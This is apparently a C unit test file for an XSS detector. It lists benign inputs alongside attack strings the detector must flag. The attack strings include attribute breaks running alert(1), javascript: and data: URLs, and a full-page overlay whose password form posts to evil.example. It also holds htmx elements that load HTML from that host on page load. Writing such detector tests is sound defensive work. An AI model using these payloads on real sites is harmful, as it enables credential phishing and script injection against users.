/* test_payload_r9x.c - issue 20, thirtieth session, helper x (the ninth
 * XSS red team): rows of its tables' findings. Benign rows: handler
 * bodies that do nothing after an attribute break (a rich-text link's
 * onclick="event.preventDefault();"), JSX's handler braces in prose, a
 * style sheet of the site's own path, a timer given a function's name,
 * prose after "<script>". Attacks beside each draw XSS as a query value
 * and a form body and reach the kill line (payload_rt_table.h). */
#include <stdarg.h>
#include <stddef.h>
#include <setjmp.h>
#include <stdint.h>
#include <cmocka.h>

#include <stdio.h>
#include <string.h>

#include "collector/detect/payload.h"

#include "tests/unit/payload_rt_table.h"

#define X PAYLOAD_XSS
#define N PAYLOAD_NONE

/* a quoted handler that does nothing, met after a closing quote, is a
 * link's, not a break; the next handler is still read */
static void test_inert_handler_after_quote(void **st)
{
	(void)st;
	static const struct rtcase t[] = {
		{"<a href=\"#\" onclick=\"event.preventDefault();\">Back</a>", N},
		{"<a href='#' onclick='event.preventDefault()'>Menu</a>", N},
		{"<a href=\"#\" onclick=\"event.stopPropagation(); return false;\">x</a>", N},
		{"<a href=\"#\" onclick=\"event.preventDefault()", N},
		{"<a+href=\"#\"+onclick=\"event.preventDefault();\">Back</a>", N},
		{"<a+href=\"#\"+onclick=\"return false;\"+onmouseover=\"alert(1)\">x</a>", X},
		{"\" onclick=\"return false\" onfocus=\"alert(1)\" autofocus x=\"", X},
		{"\" onclick=\"event.preventDefault();\" onmouseover=alert(1) x=\"", X},
		{"\" onclick=\"event.preventDefault();alert(1)\" x=\"", X},
		{"\" onclick=\"event.preventDefault()\"&#59;alert(1)//", X},
	};
	rt_run_kill("inert after quote", X, t, sizeof(t) / sizeof(t[0]));
}

/* JSX's onClick={handler} is no HTML handler that runs: a name alone
 * in a block does nothing, and a value the tokenizer cuts at a blank
 * ({() =>) cannot compile */
static void test_jsx_handler_braces(void **st)
{
	(void)st;
	static const struct rtcase t[] = {
		{"<button onClick={() => setOpen(!open)}>Toggle</button>", N},
		{"In React use <div onClick={handleClick}> instead", N},
		{"<input onChange={this.handleChange} value={value} />", N},
		{"<form onSubmit={e => { e.preventDefault(); save(); }}>", N},
		{"<x onclick={alert(1)}>", X},
		{"<x onclick={alert(1)}//}>", X},
		{"<x onclick={x}&Tab;alert(1)>", X},
		{"<x onclick={x}&Tab;y=alert(1)>", X},
		{"<x onclick={x}&#9;y=alert(1)>", X},
		{"<x onclick={()=>alert(1)}&#x20;=>", X},
		{"<x onclick={x};alert(1)>", X},
		{"<x onclick={x}alert(1)>", X},
	};
	rt_run_kill("jsx", X, t, sizeof(t) / sizeof(t[0]));
}

/* a style sheet of the site's own path restyles with the site's own
 * rules (told at 50 like an https sheet); another host's, a scheme-less
 * //host, or a script URL keep the kill */
static void test_own_path_sheet(void **st)
{
	(void)st;
	static const struct rtcase t[] = {
		{"<link rel=\"stylesheet\" href=\"/css/main.css\">", X},
		{"<link rel=\"stylesheet\" type=\"text/css\" href=\"_static/pygments.css\">", X},
		{"<link rel=stylesheet href=//evil.example/x.css>", X},
		{"<link rel=\"stylesheet\" href=\"/\\evil.example/x.css\">", X},
		{"<link rel=stylesheet href=\"http://203.0.113.9/x.css\">", X},
	};
	rt_run("own sheet", t, sizeof(t) / sizeof(t[0]));
	assert_true(rt_best(t[0].in, 0, X) < 60);
	assert_true(rt_best(t[0].in, 1, X) < 60);
	assert_true(rt_best(t[1].in, 0, X) < 60);
	assert_true(rt_best("<base href=\"app/\">", 0, X) < 50);
	assert_true(rt_best("<base href=\"javascript:alert(1)//\">", 0, X) >= 60);
	for (size_t i = 2; i < sizeof(t) / sizeof(t[0]); i++)
		assert_true(rt_best(t[i].in, 0, X) >= 60);
}

/* a timer given a function's name and a delay is ordinary script; a
 * sink's name, window.name or a string evaluated keep the finding */
static void test_timer_given_a_name(void **st)
{
	(void)st;
	static const struct rtcase t[] = {
		{"setTimeout(fn, 1000)", N},
		{"setInterval(this.tick, 500)", N},
		{"setTimeout(resolve, ms)", N},
		{"setTimeout(search, 250)", N},
		{"setTimeout(location.hash.slice(1), 0)", X},
		{"setTimeout(document.cookie,0)", X},
		{"setTimeout(alert, 0)", X},
		{"setTimeout(name, 0)", X},
		{"setTimeout(top.name,1)", X},
		{"setTimeout('alert(1)', 0)", X},
		{"setTimeout(atob('YWxlcnQoMSk='))", X},
	};
	rt_run_kill("timer", X, t, sizeof(t) / sizeof(t[0]));
}

/* prose about the element: "<script> in JSON" cannot compile */
static void test_script_then_in(void **st)
{
	(void)st;
	static const struct rtcase t[] = {
		{"<script>in=1;alert(1)</script>", X},
		{"<script>\nin JSON alert(1)</script>", X},
	};
	rt_run_kill("script in", X, t, sizeof(t) / sizeof(t[0]));
	assert_true(rt_best("How do I escape <script> in JSON?", 0, X) < 60);
	assert_true(rt_best("How do I escape <script> in JSON?", 1, X) < 60);
	assert_true(rt_best("<script> instanceof checks", 0, X) < 60);
	assert_true(rt_best("<script> and </script> tags must be balanced", 0, X) < 60);
	assert_true(rt_best("<script>alert</script>", 0, X) < 60);
	assert_true(rt_best("<script>alert(1)</script>", 0, X) >= 60);
	assert_true(rt_best("<script> x </script><script>alert(1)</script>", 0, X) >= 60);
}

/* a Markdown link whose destination is a data: URL of an active type
 * (a page or an SVG), an image whose is a page, or a script URL */
static void test_markdown_active_link(void **st)
{
	(void)st;
	static const struct rtcase t[] = {
		{"[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)", X},
		{"[click me](data:text/html,<b>hi</b>)", X},
		{"[logo](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)", X},
		/* an image's SVG is drawn by <img>, which runs no script in it
		 * (q: README badges were a kill) */
		{"![logo](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)", N},
		{"![badge](data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciLz4=)", N},
		{"![icon](data:image/svg+xml;utf8,<svg xmlns='http://www.w3.org/2000/svg' width='10' height='10'><circle r='5'/></svg>)", N},
		{"![a](javascript:alert(1))", X},
		{"[a]( <data:text/html;base64,PGlmcmFtZT4=> )", X},
		{"[x](vbscript:msgbox(1))", X},
		{"[y](JaVaScRiPt:prompt(1))", X},
		{"[JavaScript: The Good Parts](https://example.com/jsgp)", N},
		{"[docs](javascript-guide.md) (see chapter 2)", N},
		{"![dot](data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==)", N},
		{"See [the docs](https://example.com/data:text) for details", N},
		{"[data](https://example.com/data.html)", N},
	};
	rt_run_kill("markdown data", X, t, sizeof(t) / sizeof(t[0]));
}

/* a link or form laid fixed over the whole page: every click or
 * keystroke goes where the value sends it */
static void test_page_overlay(void **st)
{
	(void)st;
	static const struct rtcase t[] = {
		{"<a href=\"https://evil.example/login\" style=\"position:fixed;top:0;left:0;width:100%;height:100%\">Session expired</a>", X},
		{"<div style=\"position:fixed;top:0;left:0;width:100%;height:100%;background:white;z-index:9999\"><form action=//evil.example>Login<input name=pw type=password></form></div>", X},
		{"<a href=//evil.example style=position:fixed;inset:0;z-index:99999>x</a>", X},
		{"<a href=//evil.example style=\"position: fixed; left:0; right:0; top:0; bottom:0\">x</a>", X},
		{"<div style=\"position:fixed;bottom:0;width:100%;background:#333\">We use cookies</div>", N},
		{"<div style=\"position:absolute;top:0;left:0;width:100%;height:100%\">Caption</div>", N},
		{"<a href=\"/top\" style=\"position:fixed;right:20px;bottom:20px\">Top</a>", N},
		{"<div style=\"position:fixed;inset:0;background:rgba(0,0,0,.6);z-index:1000\" class=\"overlay\"></div>", N},
	};
	rt_run_kill("overlay", X, t, sizeof(t) / sizeof(t[0]));
}

/* a scanner's reflection probe: its random token, then the break out
 * of a quoted attribute and an element ("e3d5b\"><a>hudtf"), told at 55 */
static void test_token_then_context_break(void **st)
{
	(void)st;
	static const struct rtcase t[] = {
		{"e3d5b\"><a>hudtf", X},
		{"zq71k'><b>zq71k", X},
		{"x9_a-1\"/><img src=x>", X},
		{"Monitor 27\"> <b>sale</b>", N},
		{"He said \"hi\"><b>bold</b>", N},
		{"a\">b", N},
		{"Atom\"><title>Release notes</title>", N},
		{"product_id\"><span>", N},
	};
	rt_run("token break", t, sizeof(t) / sizeof(t[0]));
	/* a finding, not a kill: markup fragments are cut so too */
	assert_true(rt_best("btn-primary\"><span class=\"icon\">", 0, X) < 60);
	assert_true(rt_best("e3d5b\"><img src=x onerror=alert(1)>", 0, X) >= 60);
}

/* a data: URL of a type that neither renders as a page nor runs: a
 * JSON API's file upload (pdf, json, zip); the page and script types
 * keep their findings */
static void test_inactive_data_types(void **st)
{
	(void)st;
	static const struct rtcase t[] = {
		{"data:application/json,{\"a\":1}", N},
		{"data:application/pdf;base64,JVBERi0xLjQKJcOkw7zDtsOfCjIgMCBvYmoKPDwvTGVuZ3RoIDMgMCBSPj4=", N},
		{"data:application/octet-stream;base64,AAECAwQFBgcICQ==", N},
		{"data:application/xhtml+xml,<html xmlns=\"http://www.w3.org/1999/xhtml\"><script>alert(1)</script></html>", X},
		{"data:application/javascript,alert(1)", X},
		{"<iframe src=\"data:application/xml;base64,PHg+PC94Pg==\"></iframe>", X},
		{"<object data=\"data:application/x-shockwave-flash;base64,Q1dTBw==\"></object>", X},
	};
	rt_run("data types", t, sizeof(t) / sizeof(t[0]));
}

/* htmx swaps what hx-get fetches into the page: another host's HTML */
static void test_htmx_remote(void **st)
{
	(void)st;
	static const struct rtcase t[] = {
		{"<div hx-get=\"//evil.example\" hx-trigger=\"load\">", X},
		{"<div data-hx-post=\"https://evil.example/x\" hx-trigger=load hx-swap=outerHTML>", X},
		{"<x hx-get=http://203.0.113.9/p hx-trigger=load>", X},
		{"<button hx-post=\"/clicked\" hx-swap=\"outerHTML\">Click Me</button>", N},
		{"<div hx-get=\"/api/rows?page=2\" hx-trigger=\"revealed\"></div>", N},
	};
	rt_run_kill("htmx", X, t, sizeof(t) / sizeof(t[0]));
	/* on a click (no self-firing hx-trigger): htmx's own examples, as
	 * pasted into tickets, told below the kill line (r9b K3) */
	static const char *const told[] = {
		"<button hx-post=\"https://api.example.com/clicked\" hx-swap=\"outerHTML\">",
		"<div hx-get=\"//evil.example/x\">",
	};
	for (size_t i = 0; i < sizeof(told) / sizeof(told[0]); i++) {
		int b = rt_best(told[i], 0, PAYLOAD_XSS);

		if (b < 50 || b >= 60)
			fail_msg("htmx on a click not told (%d): %s", b, told[i]);
	}
}

/* the language's name in a sentence is no script URL */
static void test_scheme_in_prose(void **st)
{
	(void)st;
	static const struct rtcase t[] = {
		{"The JavaScript: alert() function shows a dialog box", N},
		{"Learn VBScript: MsgBox() basics", N},
		{"x\" href=javascript:alert(1) y=\"", X},
		{"click javascript:alert(document.cookie)", X},
	};
	rt_run("scheme prose", t, sizeof(t) / sizeof(t[0]));
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_inert_handler_after_quote),
		cmocka_unit_test(test_jsx_handler_braces),
		cmocka_unit_test(test_own_path_sheet),
		cmocka_unit_test(test_timer_given_a_name),
		cmocka_unit_test(test_script_then_in),
		cmocka_unit_test(test_markdown_active_link),
		cmocka_unit_test(test_page_overlay),
		cmocka_unit_test(test_token_then_context_break),
		cmocka_unit_test(test_inactive_data_types),
		cmocka_unit_test(test_htmx_remote),
		cmocka_unit_test(test_scheme_in_prose),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
